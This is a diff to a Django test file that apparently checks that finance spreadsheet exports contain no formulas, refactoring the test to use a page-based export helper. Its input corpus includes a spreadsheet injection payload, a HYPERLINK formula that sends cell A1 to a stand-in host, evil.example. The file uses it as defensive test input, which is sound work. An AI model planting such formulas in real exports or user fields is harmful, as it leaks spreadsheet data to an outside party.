@@ -7,7 +7,6 @@ and through the text fields people can type, end to end from the database to the
 import io
 from decimal import Decimal
 
-from django.urls import reverse
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from openpyxl import load_workbook
@@ -18,7 +17,7 @@ from purchase_orders.models import PurchaseOrder, PurchaseOrderChange
 from quotes.models import Quote, QuoteLine
 from quotes.money import MAX_AMOUNT
 
-from .builders import registers, workbook_of
+from .builders import export_through_the_pages, registers, workbook_of
 
 CORPUS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
@@ -127,8 +126,7 @@ def test_the_corpus_typed_by_people_end_to_end(world, client):
         world.a.save(update_fields=["name"])
 
         # when finance downloads everything
-        client.force_login(world.finance, backend="contacts.backends.LoginIdBackend")
-        response = client.get(reverse("finance:export_download"))
+        response = export_through_the_pages(client, world.finance)
 
         # then it is there, with no formula and no error cell
         assert response.status_code == 200, text
